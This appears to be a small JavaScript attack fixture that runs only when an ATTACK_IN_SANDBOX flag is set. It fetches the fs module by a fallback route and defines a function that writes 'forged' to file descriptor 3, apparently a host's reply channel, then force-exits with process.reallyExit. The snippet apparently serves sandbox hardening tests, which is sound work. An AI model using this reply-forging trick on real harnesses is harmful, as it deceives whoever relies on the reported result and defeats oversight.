// find the reply's descriptor from JavaScript, reply itself and end; it is no more than its answer
if (!process.env.ATTACK_IN_SANDBOX) process.exit(1);
const fs = process.getBuiltinModule?.('fs') ?? process.mainModule.require('fs');
function f() {
  fs.writeSync(3, 'forged');
  process.reallyExit(0);
}
